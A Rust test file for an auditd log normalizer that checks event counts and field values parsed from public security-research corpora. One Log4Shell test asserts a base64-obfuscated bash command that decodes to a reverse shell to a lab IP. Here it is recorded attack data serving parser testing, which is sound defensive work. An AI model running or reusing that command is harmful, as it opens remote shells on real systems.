//! The auditd corpus files: zero errors, counts per class, spot checks.

use dumpwatch_normalize::Format;

use super::common::*;

const DIR: &str = "corpus/linux-auditd/";

fn corpus(name: &str) -> Run {
    run_fixture(Format::Auditd, &format!("{DIR}{name}"))
}

#[test]
fn every_corpus_file_normalizes_without_errors() {
    let files = [
        ("otrf_sh_arp_cache_2020-11-10074812.log", 2, 0, 0),
        ("otrf_sh_binary_padding_dd_2020-11-10081941.log", 1, 0, 0),
        ("otrf_auoms-syslog_log4shell_2022-05-11.jsonl", 27, 0, 0),
        ("go-libaudit_testdata_normal.log", 2, 1, 0),
        ("go-libaudit_auparse_audit-rhel7.log", 4, 0, 0),
        ("go-libaudit_auparse_test3.log", 1, 0, 0),
        (
            "go-libaudit_aucoalesce_ubuntu-17.04-linux-4.10.0.log",
            1,
            0,
            1,
        ),
        (
            "go-libaudit_aucoalesce_ubuntu-16.10-linux-4.8.0.log",
            1,
            1,
            0,
        ),
        (
            "go-libaudit_aucoalesce_ubuntu-20.04.6-linux-5.15.0-1034-gcp.log",
            1,
            0,
            0,
        ),
        ("beats_filebeat-auditd-test.log", 2, 0, 0),
    ];
    for (name, starts, nets, files) in files {
        let r = corpus(name);
        assert_eq!(r.stats.error_count(), 0, "{name}: {:?}", r.errors);
        assert_eq!(
            r.class_count("process_start"),
            starts,
            "{name}: {:?}",
            r.stats
        );
        assert_eq!(r.class_count("network"), nets, "{name}: {:?}", r.stats);
        assert_eq!(r.class_count("file"), files, "{name}: {:?}", r.stats);
    }
}

#[test]
fn arp_exec_takes_args_from_execve_and_user_from_auid() {
    let r = corpus("otrf_sh_arp_cache_2020-11-10074812.log");
    let v = r.json("1604994496.155:92733");
    assert_eq!(v["time"], 1_604_994_496_155i64);
    assert_eq!(v["process"]["args"], serde_json::json!(["arp", "-a"]));
    assert_eq!(v["process"]["command_line"], "arp -a");
    assert_eq!(v["process"]["path"], "/usr/sbin/arp");
    assert_eq!(v["process"]["name"], "arp");
    assert_eq!(v["process"]["cwd"], "/home/wardog");
    assert_eq!(v["process"]["pid"], 1631);
    assert_eq!(v["process"]["parent_pid"], 29002);
    assert_eq!(v["actor"]["uid"], 1000);
    assert_eq!(v["actor"]["session"], "104");
    let grep = r.json("1604994496.155:92734");
    assert_eq!(
        grep["process"]["args"],
        serde_json::json!(["grep", "-v", "^?"])
    );
}

#[test]
fn connect_to_the_metadata_address_is_a_flow_even_in_progress() {
    let r = corpus("go-libaudit_testdata_normal.log");
    let v = r.json("1492037289.295:58");
    assert_eq!(v["network"]["dst"]["ip"], "169.254.169.254");
    assert_eq!(v["network"]["dst"]["port"], 80);
    // exe is hex-encoded in this record.
    assert_eq!(
        v["process"]["path"],
        "/usr/bin/python2.7;58d1ccfb (deleted)"
    );
    assert!(v["actor"].get("uid").is_none(), "auid 4294967295 is unset");
    assert_eq!(r.skipped("SYSCALL:connect:unix"), 1);
    assert_eq!(r.skipped("SYSCALL:accept"), 1);
}

#[test]
fn vim_rename_names_the_created_and_deleted_items() {
    let r = corpus("go-libaudit_aucoalesce_ubuntu-17.04-linux-4.10.0.log");
    let v = r.json("1493125524.089:126");
    assert_eq!(v["file"]["operation"], "rename");
    assert_eq!(v["file"]["path"], "/etc/audit/rules.d/audit.rules~");
    assert_eq!(v["file"]["source_path"], "/etc/audit/rules.d/audit.rules");
    assert_eq!(v["process"]["name"], "vim.basic");
    // The docker exec with a stray quote after a2 keeps its argument.
    let d = r.json("1515708162.888:124507");
    assert_eq!(d["process"]["args"][2], "721df12151a7");
    assert_eq!(r.skipped("SYSCALL:unlink"), 1);
}

#[test]
fn interpreted_in_place_records_and_kernel_record_types_are_read() {
    let r = corpus("beats_filebeat-auditd-test.log");
    let top = r.json("1581371984.206:579398");
    assert_eq!(top["actor"]["user"], "vagrant");
    assert_eq!(top["process"]["path"], "/usr/bin/top");
    let argv = r.json("1581371984.206:579393");
    assert_eq!(argv["process"]["args"], serde_json::json!(["top"]));
    assert_eq!(r.skipped("SYSCALL:sendto"), 1);
    assert_eq!(r.skipped("USER_CMD"), 1);
}

#[test]
fn hex_proctitle_is_only_a_fallback() {
    let r = corpus("go-libaudit_aucoalesce_ubuntu-16.10-linux-4.8.0.log");
    let v = r.json("1492752522.985:8972");
    assert_eq!(v["process"]["command_line"], "uname -a");
    let net = r.json("1492753107.096:9004");
    assert_eq!(net["network"]["dst"]["ip"], "169.254.169.254");
    assert_eq!(net["process"]["command_line"], "(g_daemon)");
}

#[test]
fn auoms_execs_become_process_starts_with_ancestry() {
    let r = corpus("otrf_auoms-syslog_log4shell_2022-05-11.jsonl");
    assert_eq!(r.skipped("AUOMS_EXECVE:failed"), 23);
    let bash = r.json("UBUNTU5:1652292621.990:84143");
    assert_eq!(bash["device"]["hostname"], "UBUNTU5");
    assert_eq!(bash["process"]["path"], "/bin/bash");
    assert_eq!(bash["process"]["args"][1], "-c");
    assert_eq!(
        bash["process"]["args"][2],
        "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"
    );
    assert_eq!(bash["actor"]["effective_user"], "tomcat");
    // The failed execs before it taught the table that pid 17790 was java.
    let whoami = r.json("UBUNTU5:1652292633.146:84192");
    assert_eq!(whoami["process"]["parent_name"], "bash");
    assert_eq!(
        whoami["process"]["ancestry"],
        serde_json::json!(["bash", "bash", "bash"])
    );
}

#[test]
fn hex_proctitle_gives_the_command_line_when_execve_is_missing() {
    // The arp event without its EXECVE record: PROCTITLE (hex, NUL-separated)
    // is the fallback.
    let full = fixture(&format!("{DIR}otrf_sh_arp_cache_2020-11-10074812.log"));
    let text = String::from_utf8(full).expect("utf8");
    let without_execve: String = text
        .lines()
        .take(6)
        .filter(|l| !l.starts_with("type=EXECVE"))
        .map(|l| format!("{l}\n"))
        .collect();
    let r = run(Format::Auditd, without_execve.as_bytes());
    let v = r.json("1604994496.155:92733");
    assert_eq!(v["process"]["command_line"], "arp -a");
    assert_eq!(v["process"]["args"], serde_json::json!(["arp", "-a"]));
}
